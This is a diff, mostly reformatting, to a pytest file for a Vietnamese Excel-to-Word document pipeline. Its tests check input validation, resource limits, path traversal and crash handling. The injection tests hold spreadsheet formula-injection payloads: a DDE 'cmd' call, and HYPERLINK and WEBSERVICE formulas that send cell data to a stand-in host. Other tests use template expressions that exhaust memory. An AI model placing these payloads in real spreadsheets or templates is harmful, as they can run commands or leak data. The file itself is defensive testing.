@@ -12,6 +12,7 @@ One section per item of the issue; every test name starts with the item's topic:
 8. traceback_*    no traceback, ever
 9. install_*      a reproducible install
 """
+
 from __future__ import annotations
 
 import io
@@ -55,28 +56,41 @@ def problems_of(folder: Path) -> list[str]:
     return [str(p) for p in caught.value.problems]
 
 
-def cli(*args: str, cwd: Path | None = None, limit_memory: bool = False,
-        timeout: float = 120) -> subprocess.CompletedProcess:
+def cli(
+    *args: str, cwd: Path | None = None, limit_memory: bool = False, timeout: float = 120
+) -> subprocess.CompletedProcess:
     """`python -m pipeline ARGS`; with `limit_memory`, under 1 GiB of address space."""
+
     def cap():
-        gib = 1024 ** 3
+        gib = 1024**3
         resource.setrlimit(resource.RLIMIT_AS, (gib, gib))
 
-    env = dict(os.environ, OPENBLAS_NUM_THREADS="1", OMP_NUM_THREADS="1",
-               PYTHONPATH=str(ROOT))
-    return subprocess.run([sys.executable, "-m", "pipeline", *args], cwd=cwd, env=env,
-                          capture_output=True, text=True, timeout=timeout,
-                          preexec_fn=cap if limit_memory else None)
+    env = dict(os.environ, OPENBLAS_NUM_THREADS="1", OMP_NUM_THREADS="1", PYTHONPATH=str(ROOT))
+    return subprocess.run(
+        [sys.executable, "-m", "pipeline", *args],
+        cwd=cwd,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=timeout,
+        preexec_fn=cap if limit_memory else None,
+    )
 
 
 # =========================================================================== 1. figures
+
 
 def test_figures_formula_without_cached_value_is_an_error_naming_the_cell(campaign_dir):
     # openpyxl writes the formula with no cached value, as a script would.
     edit_workbook(campaign_dir / WORKBOOK, {("Chấm điểm", "D14"): "=C14"})
     problems = problems_of(campaign_dir)
-    assert any(p.startswith('du-lieu.xlsx › Chấm điểm › dòng 14 › cột "Cụm chấm": ô D14 có '
-                            "công thức (=C14) nhưng chưa có giá trị tính sẵn") for p in problems)
+    assert any(
+        p.startswith(
+            'du-lieu.xlsx › Chấm điểm › dòng 14 › cột "Cụm chấm": ô D14 có '
+            "công thức (=C14) nhưng chưa có giá trị tính sẵn"
+        )
+        for p in problems
+    )
 
 
 def test_figures_formula_without_value_never_reaches_the_news(campaign_dir, tmp_path):
@@ -102,8 +116,10 @@ def test_figures_formula_with_cached_value_is_read(campaign_dir):
 def test_figures_error_value_is_an_error_naming_the_cell(campaign_dir, error):
     edit_workbook(campaign_dir / WORKBOOK, {("Chấm điểm", "D20"): error})
     problems = problems_of(campaign_dir)
-    assert any(p.startswith('du-lieu.xlsx › Chấm điểm › dòng 20 › cột "Cụm chấm": ô D20 có '
-                            f"giá trị lỗi {error} của Excel") for p in problems), problems
+    assert any(
+        p.startswith(f'du-lieu.xlsx › Chấm điểm › dòng 20 › cột "Cụm chấm": ô D20 có giá trị lỗi {error} của Excel')
+        for p in problems
+    ), problems
 
 
 def test_figures_merged_cells_are_an_error_naming_the_range(campaign_dir):
@@ -112,8 +128,10 @@ def test_figures_merged_cells_are_an_error_naming_the_range(campaign_dir):
     book["Chấm điểm"].merge_cells("A2:A5")  # the unit code typed once for four rows
     book.save(path)
     problems = problems_of(campaign_dir)
-    assert any(p.startswith('du-lieu.xlsx › Chấm điểm › dòng 2 › cột "Mã đơn vị": các ô A2:A5 '
-                            "được gộp (merge)") for p in problems), problems
+    assert any(
+        p.startswith('du-lieu.xlsx › Chấm điểm › dòng 2 › cột "Mã đơn vị": các ô A2:A5 được gộp (merge)')
+        for p in problems
+    ), problems
 
 
 def test_figures_hidden_rows_are_read_with_a_warning_naming_them(campaign_dir):
@@ -125,23 +143,28 @@ def test_figures_hidden_rows_are_read_with_a_warning_naming_them(campaign_dir):
     raw = load_campaign(campaign_dir)
     numbers = [r.number for r in raw.sheets["Chấm điểm"].rows]
     assert 14 in numbers and 15 in numbers
-    assert any("du-lieu.xlsx › Chấm điểm: các dòng 14, 15 đang bị ẩn trong Excel" in w
-               for w in raw.warnings), raw.warnings
+    assert any("du-lieu.xlsx › Chấm điểm: các dòng 14, 15 đang bị ẩn trong Excel" in w for w in raw.warnings), (
+        raw.warnings
+    )
     campaign = validate(raw)
     assert any("14, 15 đang bị ẩn" in w for w in campaign.warnings)
 
 
 # =========================================================================== 2. injection
 
-HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
-           "=cmd|' /C calc'!A0", '=WEBSERVICE("http://example.invalid/")',
-           "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
+HOSTILE = [
+    '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
+    "=cmd|' /C calc'!A0",
+    '=WEBSERVICE("http://example.invalid/")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+]
 
 
 def _cells_xml(path: Path) -> str:
     with zipfile.ZipFile(path) as archive:
-        return "".join(archive.read(n).decode("utf-8") for n in archive.namelist()
-                       if n.startswith("xl/worksheets/"))
+        return "".join(archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/worksheets/"))
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -153,9 +176,15 @@ def test_injection_unit_name_in_the_self_scoring_form_is_text(campaign_dir, tmp_
 
     edit_workbook(campaign_dir / WORKBOOK, {("Đơn vị", "B2"): "x"})
     # The hostile name goes in raw (openpyxl would store it as a formula in the input too).
-    rewrite_part(campaign_dir / WORKBOOK, "xl/worksheets/sheet2.xml",
-                 lambda x: re.sub(r'(<c r="B2"[^>]*><is><t>)x<', lambda m: m.group(1) + (
-                     text.replace("&", "&amp;").replace("<", "&lt;")) + "<", x))
+    rewrite_part(
+        campaign_dir / WORKBOOK,
+        "xl/worksheets/sheet2.xml",
+        lambda x: re.sub(
+            r'(<c r="B2"[^>]*><is><t>)x<',
+            lambda m: m.group(1) + (text.replace("&", "&amp;").replace("<", "&lt;")) + "<",
+            x,
+        ),
+    )
     basis = validate_for_forms(load_campaign(campaign_dir))
     assert basis.units[0].name == text
     write_forms(basis, tmp_path)
@@ -176,6 +205,7 @@ def test_injection_criterion_text_in_the_self_scoring_form_is_text(campaign_dir,
 
     basis = validate_for_forms(load_campaign(campaign_dir))
     import dataclasses
+
     basis.criteria[1] = dataclasses.replace(basis.criteria[1], content="=1+1")
     basis.field_of_work = "=WEBSERVICE(1)"
     write_forms(basis, tmp_path)
@@ -190,8 +220,7 @@ def test_injection_blank_workbook_holds_no_formula(tmp_path, monkeypatch):
     from pipeline import blank
     from pipeline.model import Grade
 
-    monkeypatch.setattr(blank, "DEFAULT_GRADES", (Grade("A", 85, "=HYPERLINK(\"x\")"),
-                                                  Grade("B", 70, "@x")))
+    monkeypatch.setattr(blank, "DEFAULT_GRADES", (Grade("A", 85, '=HYPERLINK("x")'), Grade("B", 70, "@x")))
     blank.write_blank_workbook(tmp_path / "trong.xlsx")
     assert "<f>" not in _cells_xml(tmp_path / "trong.xlsx")
     sheet = openpyxl.load_workbook(tmp_path / "trong.xlsx")["Xếp loại"]
@@ -201,18 +230,17 @@ def test_injection_blank_workbook_holds_no_formula(tmp_path, monkeypatch):
 
 # =========================================================================== 3. bounds
 
+
 @pytest.mark.slow
 def test_bounds_used_range_at_xfd1048576_is_refused_fast_under_1_gib(campaign_dir, tmp_path):
     def huge(xml: str) -> str:
         xml = re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', xml)
-        return xml.replace("</sheetData>", '<row r="1048576"><c r="XFD1048576" t="n"><v>1</v>'
-                                           "</c></row></sheetData>")
+        return xml.replace("</sheetData>", '<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row></sheetData>')
 
     rewrite_part(campaign_dir / WORKBOOK, SCORES_PART, huge)
     assert (campaign_dir / WORKBOOK).stat().st_size < 100_000
     start = time.monotonic()
-    run = cli("build", "--inputs", str(campaign_dir.parent), "--outputs", str(tmp_path / "out"),
-              limit_memory=True)
+    run = cli("build", "--inputs", str(campaign_dir.parent), "--outputs", str(tmp_path / "out"), limit_memory=True)
     assert time.monotonic() - start < 30
     assert run.returncode == 1, run.stderr
     assert "Traceback" not in run.stderr
@@ -220,8 +248,11 @@ def test_bounds_used_range_at_xfd1048576_is_refused_fast_under_1_gib(campaign_di
 
 
 def test_bounds_dimension_alone_claiming_a_huge_range_is_refused(campaign_dir):
-    rewrite_part(campaign_dir / WORKBOOK, SCORES_PART,
-                 lambda x: re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:ZZ900000"/>', x))
+    rewrite_part(
+        campaign_dir / WORKBOOK,
+        SCORES_PART,
+        lambda x: re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:ZZ900000"/>', x),
+    )
     with pytest.raises(InputError, match="trang tính dùng đến ô ZZ900000"):
         load_campaign(campaign_dir)
 
@@ -241,21 +272,26 @@ def test_bounds_workbook_decompressing_past_200_mb_is_refused(campaign_dir):
 
 def test_bounds_cell_over_32767_characters_is_an_error(campaign_dir):
     path = campaign_dir / WORKBOOK
-    rewrite_part(path, "xl/worksheets/sheet2.xml",  # `Đơn vị`: B2 is the first unit's name
-                 lambda x: re.sub(r'(<c r="B2"[^>]*><is><t>)[^<]*', r"\g<1>" + "x" * 40_000, x))
+    rewrite_part(
+        path,
+        "xl/worksheets/sheet2.xml",  # `Đơn vị`: B2 is the first unit's name
+        lambda x: re.sub(r'(<c r="B2"[^>]*><is><t>)[^<]*', r"\g<1>" + "x" * 40_000, x),
+    )
     problems = problems_of(campaign_dir)
-    assert any(p.startswith('du-lieu.xlsx › Đơn vị › dòng 2 › cột "Tên đơn vị": ô B2 có 40000 '
-                            "ký tự, quá giới hạn 32767") for p in problems), problems
+    assert any(
+        p.startswith('du-lieu.xlsx › Đơn vị › dòng 2 › cột "Tên đơn vị": ô B2 có 40000 ký tự, quá giới hạn 32767')
+        for p in problems
+    ), problems
 
 
 def test_bounds_csv_cell_over_32767_characters_is_an_error(tmp_path):
     folder = tmp_path / "csv-dot"
     folder.mkdir()
-    (folder / "chung.csv").write_text("Mục,Giá trị\nTên cụm," + "y" * 40_000 + "\n",
-                                      encoding="utf-8")
+    (folder / "chung.csv").write_text("Mục,Giá trị\nTên cụm," + "y" * 40_000 + "\n", encoding="utf-8")
     raw = load_campaign(folder)
-    assert any(str(p).startswith('chung.csv › Chung › dòng 2 › cột "Giá trị": ô B2 có 40000 ký tự')
-               for p in raw.problems), raw.problems
+    assert any(
+        str(p).startswith('chung.csv › Chung › dòng 2 › cột "Giá trị": ô B2 có 40000 ký tự') for p in raw.problems
+    ), raw.problems
 
 
 @pytest.mark.slow
@@ -267,17 +303,32 @@ def test_bounds_photo_over_the_pixel_limit_is_an_error(campaign_dir, tmp_path):
         build_campaign(campaign_dir, tmp_path / "out", ["tin-bai"])
     assert [str(p) for p in caught.value.problems] == [
         'du-lieu.xlsx › Ảnh › dòng 4 › cột "Tệp": ảnh "anh/hop-cum.jpg" có 9000 × 6000 điểm ảnh, quá giới '
-        "hạn 50 triệu điểm ảnh: hãy thu nhỏ ảnh (ví dụ còn rộng 2000 điểm ảnh) rồi lưu lại."]
+        "hạn 50 triệu điểm ảnh: hãy thu nhỏ ảnh (ví dụ còn rộng 2000 điểm ảnh) rồi lưu lại."
+    ]
 
 
 @pytest.mark.slow
 def test_bounds_32767_character_title_is_laid_out_in_linear_time(campaign_dir, tmp_path):
-    edit_workbook(campaign_dir / WORKBOOK, {
-        ("Chung", "B3"): ("công tác văn thư, lưu trữ " * 2000)[:32_767],
-        ("Chung", "B2"): ("Cụm thi đua số 1 " * 3000)[:32_767]})
+    edit_workbook(
+        campaign_dir / WORKBOOK,
+        {
+            ("Chung", "B3"): ("công tác văn thư, lưu trữ " * 2000)[:32_767],
+            ("Chung", "B2"): ("Cụm thi đua số 1 " * 3000)[:32_767],
+        },
+    )
     start = time.monotonic()
-    run = cli("build", "--inputs", str(campaign_dir.parent), "--outputs", str(tmp_path / "out"),
-              "--doc", "all", "--jobs", "1", timeout=90)
+    run = cli(
+        "build",
+        "--inputs",
+        str(campaign_dir.parent),
+        "--outputs",
+        str(tmp_path / "out"),
+        "--doc",
+        "all",
+        "--jobs",
+        "1",
+        timeout=90,
+    )
     assert run.returncode == 0, run.stderr
     assert time.monotonic() - start < 60  # every document of the campaign; 72 s each before
 
@@ -297,8 +348,7 @@ def _reference_balanced(text, size, bold, width):
             best = (widest, lines)
     if best[0] <= width:
         return best[1]
-    return (_reference_balanced(best[1][0], size, bold, width)
-            + _reference_balanced(best[1][1], size, bold, width))
+    return _reference_balanced(best[1][0], size, bold, width) + _reference_balanced(best[1][1], size, bold, width)
 
 
 @pytest.mark.slow
@@ -343,20 +393,34 @@ except RenderError as error:
 """
 
 
-@pytest.mark.parametrize("tag", ["{{ range(10**9)|list|length }}", "{{ 'a' * 10**9 }}",
-                                 "{{ [0] * 10**9 }}", "{{ 'a'|center(10**9) }}",
-                                 "{{ 'a'.ljust(10**9) }}", "{{ '{:>999999999}'.format(1) }}",
-                                 "{{ 10 ** 10 ** 10 }}"])
+@pytest.mark.parametrize(
+    "tag",
+    [
+        "{{ range(10**9)|list|length }}",
+        "{{ 'a' * 10**9 }}",
+        "{{ [0] * 10**9 }}",
+        "{{ 'a'|center(10**9) }}",
+        "{{ 'a'.ljust(10**9) }}",
+        "{{ '{:>999999999}'.format(1) }}",
+        "{{ 10 ** 10 ** 10 }}",
+    ],
+)
 @pytest.mark.slow
 def test_bounds_template_computing_huge_values_is_stopped_by_the_sandbox(tmp_path, tag):
     def cap():
-        gib = 1024 ** 3
+        gib = 1024**3
         resource.setrlimit(resource.RLIMIT_AS, (gib, gib))
 
     env = dict(os.environ, OPENBLAS_NUM_THREADS="1", PYTHONPATH=str(ROOT))
     start = time.monotonic()
-    run = subprocess.run([sys.executable, "-c", SANDBOX_PROBE, str(tmp_path), tag], env=env,
-                         capture_output=True, text=True, timeout=60, preexec_fn=cap)
+    run = subprocess.run(
+        [sys.executable, "-c", SANDBOX_PROBE, str(tmp_path), tag],
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=60,
+        preexec_fn=cap,
+    )
     assert time.monotonic() - start < 30
     assert run.returncode == 3, run.stderr[-2000:]
     assert run.stdout.startswith("Mẫu t.docx: phép tính quá lớn (")
@@ -370,14 +434,16 @@ def test_bounds_sandbox_still_computes_ordinary_things(tmp_path):
     from .docx_tools import paragraphs
 
     doc = Document()
-    doc.add_paragraph("{{ 2 * 3 }} {{ 'ab' * 2 }} {{ range(3)|list|join(',') }} {{ 2 ** 10 }} "
-                      "{{ '%s-%d' % ('a', 5) }} {{ n + 1 }}")
+    doc.add_paragraph(
+        "{{ 2 * 3 }} {{ 'ab' * 2 }} {{ range(3)|list|join(',') }} {{ 2 ** 10 }} {{ '%s-%d' % ('a', 5) }} {{ n + 1 }}"
+    )
     doc.save(tmp_path / "t.docx")
     (tmp_path / "out.docx").write_bytes(render_bytes("t", {"n": 41}, tmp_path))
     assert paragraphs(tmp_path / "out.docx") == ["6 abab 0,1,2 1024 a-5 42"]
 
 
 # =========================================================================== 4. photos
+
 
 @pytest.fixture
 def outside_photo(tmp_path) -> Path:
@@ -397,7 +463,8 @@ def _photo_problems(campaign_dir: Path, name: str) -> list[str]:
 def test_photos_absolute_path_is_an_error(campaign_dir, outside_photo):
     assert _photo_problems(campaign_dir, str(outside_photo)) == [
         f'du-lieu.xlsx › Ảnh › dòng 2 › cột "Tệp": ảnh "{outside_photo}" phải là một tệp trong '
-        'thư mục anh/ của đợt thi đua (không ghi đường dẫn tuyệt đối, "../" hay lối tắt ra ngoài).']
+        'thư mục anh/ của đợt thi đua (không ghi đường dẫn tuyệt đối, "../" hay lối tắt ra ngoài).'
+    ]
 
 
 def test_photos_dotdot_path_is_an_error(campaign_dir, outside_photo):
@@ -425,13 +492,14 @@ def test_photos_inside_anh_and_symlinks_within_it_still_work(campaign_dir):
 
 # =========================================================================== 5. codes
 
+
 def test_codes_differing_only_by_case_are_an_error(campaign_dir):
-    edit_workbook(campaign_dir / WORKBOOK,
-                  {("Đơn vị", "append"): ["pl", "UBND phường Phúc Lợi Mới", "Phúc Lợi Mới"]})
+    edit_workbook(campaign_dir / WORKBOOK, {("Đơn vị", "append"): ["pl", "UBND phường Phúc Lợi Mới", "Phúc Lợi Mới"]})
     problems = problems_of(campaign_dir)
-    assert ('du-lieu.xlsx › Đơn vị › dòng 7 › cột "Mã": mã "pl" chỉ khác mã "PL" (dòng 2) ở chữ '
-            "hoa, chữ thường: tên tệp văn bản của hai mã sẽ trùng nhau; hãy dùng mã khác."
-            in problems), problems
+    assert (
+        'du-lieu.xlsx › Đơn vị › dòng 7 › cột "Mã": mã "pl" chỉ khác mã "PL" (dòng 2) ở chữ '
+        "hoa, chữ thường: tên tệp văn bản của hai mã sẽ trùng nhau; hãy dùng mã khác." in problems
+    ), problems
 
 
 def test_codes_case_twin_helper():
@@ -447,8 +515,12 @@ def test_codes_case_twin_helper():
 def test_codes_year_outside_a_sane_range_is_an_error(campaign_dir, typed):
     edit_workbook(campaign_dir / WORKBOOK, {("Chung", "B4"): typed})
     problems = problems_of(campaign_dir)
-    assert any(p.startswith(f'du-lieu.xlsx › Chung › dòng 4 › cột "Giá trị": năm "{typed}" không '
-                            "hợp lệ: cần một năm từ 2000 đến 2100") for p in problems), problems
+    assert any(
+        p.startswith(
+            f'du-lieu.xlsx › Chung › dòng 4 › cột "Giá trị": năm "{typed}" không hợp lệ: cần một năm từ 2000 đến 2100'
+        )
+        for p in problems
+    ), problems
 
 
 # =========================================================================== 6. interrupted
@@ -457,8 +529,7 @@ ALL = ["ke-hoach", "bien-ban-kiem-tra", "bien-ban-hop-cum", "to-trinh", "tin-bai
 
 
 def _files(folder: Path) -> dict[str, bytes]:
-    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())
-            if p.suffix in (".docx", ".html")}
+    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.suffix in (".docx", ".html")}
 
 
 @pytest.mark.slow
@@ -494,7 +565,8 @@ def _kill_after(monkeypatch, count: int):
 @pytest.mark.parametrize("change", [False, True], ids=["same-data", "data-changed"])
 @pytest.mark.slow
 def test_interrupted_run_killed_part_way_then_rerun_makes_no_false_hand_edit(
-        campaign_dir, tmp_path, monkeypatch, change):
+    campaign_dir, tmp_path, monkeypatch, change
+):
     out = tmp_path / "out"
     build_campaign(campaign_dir, out, ALL)  # a first, complete run
     edit_workbook(campaign_dir / WORKBOOK, {("Chấm điểm", "D2"): 4})
@@ -514,8 +586,9 @@ def test_interrupted_run_killed_part_way_then_rerun_makes_no_false_hand_edit(
 def test_interrupted_write_leaves_no_stray_temporary_file(campaign_dir, tmp_path):
     folder = tmp_path / "out" / campaign_dir.name
     folder.mkdir(parents=True)
-    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
-                          capture_output=True, text=True).stdout.strip()
+    dead = subprocess.run(
+        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
+    ).stdout.strip()
     stray = folder / f".vanban-ke-hoach.docx.{dead}.k1ll3d.tmp"
     stray.write_bytes(b"half a document")
     old = folder / ".vanban-to-trinh-khen-thuong.docx.q8x.tmp"  # no pid, two hours old
@@ -536,17 +609,32 @@ def test_interrupted_live_writer_temporary_file_is_left_alone(tmp_path):
 
 
 @pytest.mark.slow
-def test_interrupted_second_build_on_the_same_outputs_waits_then_does_its_work(campaign_dir,
-                                                                              tmp_path):
+def test_interrupted_second_build_on_the_same_outputs_waits_then_does_its_work(campaign_dir, tmp_path):
     from pipeline.runner import output_lock
 
     out = tmp_path / "out"
     env = dict(os.environ, PYTHONPATH=str(ROOT))
     with output_lock(out):  # a first build still running
         second = subprocess.Popen(
-            [sys.executable, "-m", "pipeline", "build", "--inputs", str(campaign_dir.parent),
-             "--outputs", str(out), "--doc", "plan", "--jobs", "1"],
-            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
+            [
+                sys.executable,
+                "-m",
+                "pipeline",
+                "build",
+                "--inputs",
+                str(campaign_dir.parent),
+                "--outputs",
+                str(out),
+                "--doc",
+                "plan",
+                "--jobs",
+                "1",
+            ],
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            text=True,
+            env=env,
+        )
         said: list[str] = []  # its stderr, read until it says it waits for the lock
         reader = threading.Thread(target=lambda: said.extend(second.stderr), daemon=True)
         reader.start()
@@ -568,8 +656,7 @@ def test_interrupted_queue_lines_cut_short_are_skipped(tmp_path):
     from pipeline.makeproto import read_queue
 
     queue = tmp_path / ".hang-doi-1"
-    queue.write_text("cum-1-2020 ke-hoach\ncum-1-2020 tin-b\nrac\n\ncum-2 minutes\n",
-                     encoding="utf-8")
+    queue.write_text("cum-1-2020 ke-hoach\ncum-1-2020 tin-b\nrac\n\ncum-2 minutes\n", encoding="utf-8")
     assert read_queue(queue) == {"cum-1-2020": ["ke-hoach"], "cum-2": ["minutes"]}
 
 
@@ -604,26 +691,29 @@ def _fail_writes(monkeypatch, error: int, after: int):
     monkeypatch.setattr(files.os, "fdopen", fdopen)
 
 
-@pytest.mark.parametrize("error, words", [(28, "ổ đĩa đã đầy"), (13, "không có quyền ghi"),
-                                          (30, "không có quyền ghi")],
-                         ids=["ENOSPC", "EACCES", "EROFS"])
+@pytest.mark.parametrize(
+    "error, words",
+    [(28, "ổ đĩa đã đầy"), (13, "không có quyền ghi"), (30, "không có quyền ghi")],
+    ids=["ENOSPC", "EACCES", "EROFS"],
+)
 @pytest.mark.slow
-def test_traceback_full_disk_or_read_only_output_is_one_line(campaign_dir, tmp_path,
-                                                              monkeypatch, error, words):
+def test_traceback_full_disk_or_read_only_output_is_one_line(campaign_dir, tmp_path, monkeypatch, error, words):
     from click.testing import CliRunner
 
     from pipeline.cli import main
 
     out = tmp_path / "out"
-    first = CliRunner().invoke(main, ["build", "--inputs", str(campaign_dir.parent), "--outputs",
-                                      str(out), "--doc", "all", "--jobs", "1"])
+    first = CliRunner().invoke(
+        main, ["build", "--inputs", str(campaign_dir.parent), "--outputs", str(out), "--doc", "all", "--jobs", "1"]
+    )
     assert first.exit_code == 0, first.output
     folder = out / campaign_dir.name
     before = _files(folder)
     edit_workbook(campaign_dir / WORKBOOK, {("Chấm điểm", "D2"): 4})
     _fail_writes(monkeypatch, error, after=2)
-    run = CliRunner().invoke(main, ["build", "--inputs", str(campaign_dir.parent), "--outputs",
-                                    str(out), "--doc", "all", "--jobs", "1"])
+    run = CliRunner().invoke(
+        main, ["build", "--inputs", str(campaign_dir.parent), "--outputs", str(out), "--doc", "all", "--jobs", "1"]
+    )
     assert run.exit_code == 1
     assert run.exception is None or isinstance(run.exception, SystemExit)
     assert "Traceback" not in run.output
@@ -643,15 +733,21 @@ def test_traceback_full_disk_or_read_only_output_is_one_line(campaign_dir, tmp_p
 
 # =========================================================================== 8. traceback
 
+
 @pytest.mark.parametrize("char", ["\ufffe", "\uffff"])
 def test_traceback_noncharacter_in_workbook_is_a_cell_error(campaign_dir, char):
     # Written raw into the sheet's XML, as a careless exporter would (openpyxl refuses).
-    rewrite_part(campaign_dir / WORKBOOK, "xl/worksheets/sheet2.xml",
-                 lambda x: re.sub(r'(<c r="B3"[^>]*><is><t>)', r"\g<1>" + char, x))
+    rewrite_part(
+        campaign_dir / WORKBOOK,
+        "xl/worksheets/sheet2.xml",
+        lambda x: re.sub(r'(<c r="B3"[^>]*><is><t>)', r"\g<1>" + char, x),
+    )
     problems = problems_of(campaign_dir)
     code = f"U+{ord(char):04X}"
-    assert any(p.startswith('du-lieu.xlsx › Đơn vị › dòng 3 › cột "Tên đơn vị": ô có ký tự '
-                            f"điều khiển không in được ({code})") for p in problems), problems
+    assert any(
+        p.startswith(f'du-lieu.xlsx › Đơn vị › dòng 3 › cột "Tên đơn vị": ô có ký tự điều khiển không in được ({code})')
+        for p in problems
+    ), problems
 
 
 def test_traceback_noncharacter_in_csv_is_a_cell_error(tmp_path):
@@ -661,7 +757,8 @@ def test_traceback_noncharacter_in_csv_is_a_cell_error(tmp_path):
     raw = load_campaign(folder)
     assert [str(p) for p in raw.problems] == [
         'chung.csv › Chung › dòng 2 › cột "Giá trị": ô có ký tự điều khiển không in được '
-        "(U+FFFE), thường do dán từ phần mềm khác; hãy xóa nội dung ô và gõ lại."]
+        "(U+FFFE), thường do dán từ phần mềm khác; hãy xóa nội dung ô và gõ lại."
+    ]
 
 
 def test_traceback_csv_with_nul_byte_is_an_input_error(tmp_path):
@@ -697,8 +794,10 @@ def test_traceback_check_format_on_a_docx_without_body(tmp_path):
     run = CliRunner().invoke(main, ["check-format", str(hollow), str(whole)])
     assert run.exit_code == 2
     out = run.stdout
-    assert f"{hollow}: không đọc được: không mở được như văn bản Word .docx: phần nội dung " \
+    assert (
+        f"{hollow}: không đọc được: không mở được như văn bản Word .docx: phần nội dung "
         "chính (<w:body>) của tệp bị thiếu." in out
+    )
     assert f"{whole}: " in out
 
 
@@ -712,8 +811,7 @@ def test_traceback_check_format_files_listed_as_make_gives_them(tmp_path, monkey
     monkeypatch.chdir(tmp_path)
     for name in ("van ban 1.docx", "b.docx", "-ban-sao.docx"):
         Document().save(tmp_path / name)
-    run = CliRunner().invoke(main, ["check-format", "--files",
-                                    "van ban 1.docx b.docx '-ban-sao.docx'"])
+    run = CliRunner().invoke(main, ["check-format", "--files", "van ban 1.docx b.docx '-ban-sao.docx'"])
     assert run.exit_code in (0, 1), run.output
     for name in ("van ban 1.docx", "b.docx", "-ban-sao.docx"):
         assert f"{name}: " in run.stdout
@@ -721,6 +819,7 @@ def test_traceback_check_format_files_listed_as_make_gives_them(tmp_path, monkey
 
 
 # =========================================================================== 9. install
+
 
 def _lock_entries() -> dict[str, list[str]]:
     """requirements.lock: `name==version ; marker` -> its hashes."""
@@ -754,8 +853,7 @@ def test_install_lock_covers_every_dependency_of_pyproject():
         tomllib = pytest.importorskip("tomli")
 
     project = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]
-    wanted = project["dependencies"] + [d for extra in project["optional-dependencies"].values()
-                                        for d in extra]
+    wanted = project["dependencies"] + [d for extra in project["optional-dependencies"].values() for d in extra]
     locked = {re.split(r"==", r)[0].lower().replace("_", "-") for r in _lock_entries()}
 
     def name(requirement: str) -> str:
